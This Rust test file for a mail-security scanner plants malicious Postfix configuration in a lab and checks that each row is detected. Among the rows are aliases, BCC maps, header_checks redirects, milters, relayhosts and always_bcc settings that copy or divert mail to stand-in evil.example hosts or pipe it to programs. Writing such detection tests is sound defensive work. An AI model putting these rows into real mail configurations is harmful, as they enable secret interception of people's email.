//! The rounds over a Postfix: every kind of row that moves, copies, rewrites, hides or taps mail is found where it is
//! written, and none of the ordinary rows beside them.

#![allow(clippy::unwrap_used, reason = "a step that fails is a test that fails")]

use std::collections::BTreeSet;
use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Duration;

use mailwarden_e2e::{Installation, World, WorldOptions, mailwarden};
use mailwarden_lab::OutsideWorld;
use serde_json::Value;

/// What is planted: a table, its text, and what has to be said of it as `check line beneficiary`.
struct Plant {
    table: &'static str,
    text: &'static str,
    found: &'static [&'static str],
}

const PLANTS: [Plant; 15] = [
    Plant {
        table: "hash:aliases",
        text: "# ordinary\npostmaster: jane@example.test\nnull: /dev/null\nstaff: :include:@/staff\n\
               tickets: \"|/usr/bin/ticket, -x\"\nspool: /var/mail/archive\nowner-staff: bounce@evil.example\n",
        found: &[
            "postfix.alias-command 5 /usr/bin/ticket, -x",
            "postfix.alias-file 6 /var/mail/archive",
            "postfix.alias-external 7 bounce@evil.example",
        ],
    },
    Plant {
        table: ":include:staff",
        text: "# list\njane@example.test\neve@evil.example\n|/bin/listed\n",
        found: &["postfix.alias-external 3 eve@evil.example", "postfix.alias-command 4 /bin/listed"],
    },
    Plant {
        table: "hash:virtual",
        text: "sales@example.test jane@example.test\nold@example.test bob@gmail.example\n\
               info@example.test sales@example.test, x@archive.example\nloop1@example.test loop2@example.test\n\
               loop2@example.test loop1@example.test\n",
        found: &["postfix.alias-external 2 bob@gmail.example", "postfix.alias-external 3 x@archive.example"],
    },
    Plant {
        table: "pcre:patterns",
        text: "/^(.*)@renamed\\.test$/ $1@example.test\n/^ceo\\+(.*)@example\\.test$/ $1@evil.example\n",
        found: &["postfix.alias-external 2 $1@evil.example"],
    },
    Plant {
        table: "cdb:constant",
        text: "constant@example.test c@evil.example\n",
        found: &["postfix.alias-external 1 c@evil.example"],
    },
    Plant {
        table: "texthash:catchall",
        text: "@example.test jane@example.test\n",
        found: &["postfix.catch-all 1 jane@example.test"],
    },
    Plant {
        table: "hash:bcc",
        text: "jane@example.test copy@evil.example\n",
        found: &["postfix.bcc-external 1 copy@evil.example"],
    },
    Plant {
        table: "texthash:canonical",
        text: "jd@example.test jane@example.test\nomar@example.test omar@evil.example\n",
        found: &["postfix.rewrite-outside 2 omar@evil.example"],
    },
    Plant {
        table: "texthash:generic",
        text: "jane@example.test bob@example.test\nroot@localhost.localdomain root@provider.example\n",
        found: &["postfix.rewrite-leaver 1 bob@example.test"],
    },
    Plant {
        table: "texthash:transport",
        text: "example.test lmtp:unix:private/lmtp\njane@example.test smtp:[198.51.100.9]\n\
               partner.example smtp:[10.0.0.2]\nnoreply@example.test discard:\narch@example.test archive:\n",
        found: &[
            "postfix.transport-outside 2 [198.51.100.9]",
            "postfix.transport-discards 4 nobody",
            "postfix.transport-program 5 pipe flags=F user=nobody argv=/usr/bin/archive",
        ],
    },
    Plant {
        table: "regexp:headers",
        text: "/^Subject: .*invoice/ BCC eve@evil.example\n/^X-Spam: yes/ REJECT spam\n/^Subject: .*password/ DISCARD\n\
               /^To: .*ceo@/ REDIRECT thief@evil.example\n/^List-Id:/ PREPEND X-List: yes\n\
               /^From: .*ceo@/ PREPEND Reply-To: ceo@evil.example\n",
        found: &[
            "postfix.content-copy 1 eve@evil.example",
            "postfix.content-discard 3 nobody",
            "postfix.content-redirect 4 thief@evil.example",
            "postfix.content-header 6 ceo@evil.example",
        ],
    },
    Plant {
        table: "cidr:clients",
        text: "192.0.2.0/24 REJECT\n198.51.100.0/24 FILTER smtp:[203.0.113.9]:25\n",
        found: &["postfix.content-filter 2 [203.0.113.9]:25"],
    },
    Plant {
        table: "texthash:boxes",
        text: "jane@example.test example.test/jane/\nghost@example.test example.test/jane/\n",
        found: &["postfix.mailbox-shared 2 jane@example.test"],
    },
    Plant {
        table: "texthash:moved",
        text: "leaver@example.test bob@gmail.example\nclosed@example.test closed for good\n",
        found: &["postfix.relocated-outside 1 bob@gmail.example"],
    },
    Plant {
        table: "texthash:certificates",
        text: "AA:BB:CC old-laptop\n",
        found: &["postfix.relay-certificate 1 old-laptop"],
    },
];

/// Which parameter names which tables; `@/` is the directory of the plants.
const PARAMETERS: &str = "alias_maps = hash:@/aliases
virtual_alias_maps = hash:@/virtual, pcre:@/patterns cdb:@/constant
 unionmap:{texthash:@/catchall}
recipient_bcc_maps = proxy:hash:@/bcc
canonical_maps = texthash:@/canonical
smtp_generic_maps = texthash:@/generic
transport_maps = texthash:@/transport
header_checks = regexp:@/headers
smtpd_client_restrictions = permit_mynetworks, check_client_access cidr:@/clients
virtual_mailbox_maps = texthash:@/boxes
relocated_maps = texthash:@/moved
relay_clientcerts = texthash:@/certificates
luser_relay = lost@evil.example
relayhost = [relay.evil.example]:587
mydestination = local.test
forward_path = @/forward/$user${recipient_delimiter}${extension}, @/forward/$user
recipient_delimiter = +
smtpd_milters = inet:127.0.0.1:9, inet:tap.evil.example:8891
milter_default_action = accept
";

const SERVICES: &str = "archive unix - n n - - pipe flags=F user=nobody argv=/usr/bin/archive
tapped unix n - n - 0 cleanup
 -o always_bcc=service@evil.example
";

fn world() -> World {
    let mut options = WorldOptions { gate: false, ..WorldOptions::default() };
    options.lab.outside = OutsideWorld::Discarded;
    World::with(&options).unwrap()
}

fn plant(directory: &Path, config_dir: &Path) {
    fs::create_dir_all(directory.join("forward")).unwrap();
    let here = format!("{}/", directory.display());
    for plant in &PLANTS {
        let (kind, name) = plant.table.rsplit_once(':').unwrap();
        fs::write(directory.join(name), plant.text.replace("@/", &here)).unwrap();
        let program = match (kind, name) {
            ("hash", "aliases") => "postalias",
            ("hash" | "cdb", _) => "postmap",
            _ => continue,
        };
        let table = format!("{kind}:{}", directory.join(name).display());
        let ran = Command::new(program).arg("-c").arg(config_dir).arg(&table).output().unwrap();
        assert!(ran.status.success(), "{}", String::from_utf8_lossy(&ran.stderr));
    }
    fs::write(directory.join("forward/root"), "\\root\n").unwrap();
    fs::write(directory.join("forward/nobody"), "\\nobody, hidden@evil.example\n").unwrap();
    fs::write(directory.join("forward/nobody+x"), "\"|/bin/extension\"\n").unwrap();
}

/// Each finding of Postfix as `check place line beneficiary`.
fn said(report: &Value) -> BTreeSet<String> {
    let findings = report["findings"].as_array().unwrap().iter();
    let of_postfix =
        findings.filter(|found| found["surface"]["id"].as_str().unwrap().starts_with("postfix."));
    let line = |found: &Value| {
        let file = found["locator"]["file"].as_str().unwrap_or("main.cf");
        let name = file.rsplit('/').next().unwrap();
        let line = found["locator"]["line"].as_u64().map_or("-".to_owned(), |line| line.to_string());
        let (check, who) =
            (found["check_id"].as_str().unwrap(), found["beneficiary"]["value"].as_str().unwrap());
        format!("{check} {name}:{line} {who}")
    };
    of_postfix.map(line).collect()
}

fn expected() -> BTreeSet<String> {
    let of_plant = |plant: &Plant| {
        let name = plant.table.rsplit(':').next().unwrap().to_owned();
        let said = |found: &&str| {
            let mut words = found.splitn(3, ' ');
            let (check, line, who) = (words.next().unwrap(), words.next().unwrap(), words.next().unwrap());
            format!("{check} {name}:{line} {who}")
        };
        plant.found.iter().map(said).collect::<Vec<_>>()
    };
    let elsewhere = [
        "postfix.alias-external main.cf:- lost@evil.example",
        "postfix.relay-outside main.cf:- [relay.evil.example]:587",
        "postfix.filter-outside main.cf:- inet:tap.evil.example:8891",
        "postfix.bcc-external main.cf:- service@evil.example",
        "postfix.alias-external nobody:1 hidden@evil.example",
        "postfix.alias-command nobody+x:1 /bin/extension",
        "postfix.queue-leaver main.cf:- bob@gmail.example",
    ];
    PLANTS.iter().flat_map(of_plant).chain(elsewhere.map(str::to_owned)).collect()
}

fn sweep(world: &World) -> Value {
    let config = world.sweep_config().save().unwrap();
    let surfaces = [
        "alias_maps",
        "virtual_alias_maps",
        "bcc_maps",
        "sender_login_maps",
        "rewriting",
        "transport",
        "content_checks",
        "filters",
        "forward_files",
        "queue",
    ];
    let mut arguments: Vec<String> =
        ["sweep", "--all", "--format", "json", "--config", &config].map(str::to_owned).into();
    for surface in surfaces {
        arguments.extend(["--surface".to_owned(), format!("postfix.{surface}")]);
    }
    let arguments: Vec<&str> = arguments.iter().map(String::as_str).collect();
    let output = mailwarden(&arguments).unwrap();
    assert!(matches!(output.code, 0 | 1 | 3), "{output:?}");
    output.json()
}

#[test]
fn every_plant_in_a_postfix_is_found_at_its_line_and_nothing_else() {
    let world = world();
    let postfix = &world.lab.postfix;
    let directory: PathBuf = world.lab.path().join("plants");
    // A message that waits for somebody who has left, before anything is planted.
    postfix.append_main_cf("default_transport = smtp:[127.0.0.1]:1\nnon_smtpd_milters =\n").unwrap();
    postfix.reload().unwrap();
    postfix.sendmail(&["-f", "jane@example.test", "bob@gmail.example"], "Subject: x\n\nx\n").unwrap();
    mailwarden_lab::wait::wait_for(Duration::from_secs(20), "the message in the queue", || {
        postfix.queue().is_ok_and(|queue| queue.iter().any(|message| message.queue == "deferred"))
    })
    .unwrap();
    plant(&directory, &postfix.config_dir());
    let here = format!("{}/", directory.display());
    postfix.append_main_cf(&PARAMETERS.replace("@/", &here)).unwrap();
    let master = postfix.config_dir().join("master.cf");
    fs::write(&master, format!("{}{SERVICES}", fs::read_to_string(&master).unwrap())).unwrap();

    let report = sweep(&world);
    let (said, expected) = (said(&report), expected());
    let missing: Vec<_> = expected.difference(&said).collect();
    let extra: Vec<_> = said.difference(&expected).collect();
    assert!(missing.is_empty() && extra.is_empty(), "not found: {missing:#?}\nfound besides: {extra:#?}");
    let listed = report["findings"].as_array().unwrap().iter();
    let listed: Vec<&Value> = listed.filter(|found| found["beneficiary"]["value"] == "/bin/listed").collect();
    assert_eq!(listed[0]["state"], "dormant", "Postfix refuses programs in lists");
    let eve = report["findings"].as_array().unwrap().iter();
    let mut eve = eve.filter(|found| found["beneficiary"]["value"] == "eve@evil.example");
    let path = &eve.find(|found| found["check_id"] == "postfix.alias-external").unwrap()["path"];
    assert_eq!(path[0], "staff", "the way begins at the alias that includes the list: {path}");
}

#[test]
fn what_is_only_in_the_text_is_dormant_until_it_is_built() {
    let world = world();
    let directory = world.lab.path().join("plants");
    fs::create_dir_all(&directory).unwrap();
    let table = format!("hash:{}", directory.join("virtual").display());
    fs::write(directory.join("virtual"), "a@example.test jane@example.test\n").unwrap();
    let postmap = || {
        let ran = Command::new("postmap").arg("-c").arg(world.lab.postfix.config_dir()).arg(&table).status();
        assert!(ran.unwrap().success());
    };
    postmap();
    fs::write(directory.join("virtual"), "a@example.test jane@example.test\nb@example.test x@evil.example\n")
        .unwrap();
    world.lab.postfix.append_main_cf(&format!("virtual_alias_maps = {table}\n")).unwrap();
    let found = |report: &Value| {
        let finding = &report["findings"][0];
        assert_eq!(report["findings"].as_array().unwrap().len(), 1, "{:#}", report["findings"]);
        let text = |value: &Value| value.as_str().unwrap().to_owned();
        (text(&finding["state"]), text(&finding["severity"]), finding["fingerprint"].clone())
    };
    let waiting = found(&sweep(&world));
    assert_eq!((waiting.0.as_str(), waiting.1.as_str()), ("dormant", "medium"));
    postmap();
    let acting = found(&sweep(&world));
    assert_eq!((acting.0.as_str(), acting.1.as_str()), ("active", "high"));
    assert_eq!(waiting.2, acting.2, "the same finding, awake");
}

#[test]
fn a_copy_of_a_postfix_is_swept_on_another_machine() {
    let place = tempfile::tempdir().unwrap();
    let copy = place.path().join("copy");
    fs::create_dir_all(copy.join("etc/postfix")).unwrap();
    let write = |name: &str, text: &str| fs::write(copy.join(name), text).unwrap();
    write(
        "postconf-n.txt",
        "virtual_alias_maps = hash:/etc/postfix/virtual\nalias_maps =\nmydestination =\n",
    );
    write("postconf-M.txt", "");
    write("etc/postfix/virtual", "a@example.test x@evil.example\n");
    write("etc/postfix/virtual.postmap-s", "a@example.test\tx@evil.example\n");
    let installation = Installation::create(&place.path().join("own"), "unix:/nonexistent", "", "").unwrap();
    let text = fs::read_to_string(installation.config()).unwrap();
    let more = format!("\n[postfix]\nconfig_directory = {copy:?}\nexported = true\n");
    installation.write("mailwarden.toml", text + &more).unwrap();
    let arguments = ["sweep", "--all", "--format", "json", "--config", &installation.config()];
    let report = mailwarden(&arguments).unwrap().json();
    assert_eq!(said(&report), BTreeSet::from(["postfix.alias-external virtual:1 x@evil.example".to_owned()]));
}

#[test]
fn surfaces_are_listed_with_what_is_covered_and_why_not() {
    let place = tempfile::tempdir().unwrap();
    let installation = Installation::create(place.path(), "unix:/nonexistent", "", "").unwrap();
    let text = fs::read_to_string(installation.config()).unwrap();
    installation
        .write("mailwarden.toml", text + "\n[postfix]\nconfig_directory = \"/etc/postfix\"\n")
        .unwrap();
    let config = installation.config();
    let listed = mailwarden(&["sweep", "--surfaces", "--format", "json", "--config", &config]).unwrap();
    assert_eq!(listed.code, 0);
    let listing = listed.json();
    let of = |id: &str| {
        let rows = listing["surfaces"].as_array().unwrap();
        rows.iter().find(|row| row["id"] == id).unwrap_or_else(|| panic!("{id}")).clone()
    };
    assert_eq!(of("postfix.rewriting")["covered"], true);
    assert_eq!(of("imap.acl")["covered"], false);
    assert!(of("imap.acl")["reason"].as_str().unwrap().contains("[imap]"));
    assert!(!of("dkim.keys")["reason"].as_str().unwrap().is_empty());
    let text = mailwarden(&["sweep", "--surfaces", "--config", &config]).unwrap().stdout;
    assert!(text.contains("postfix.queue") && text.contains("no [imap]"), "{text}");
}
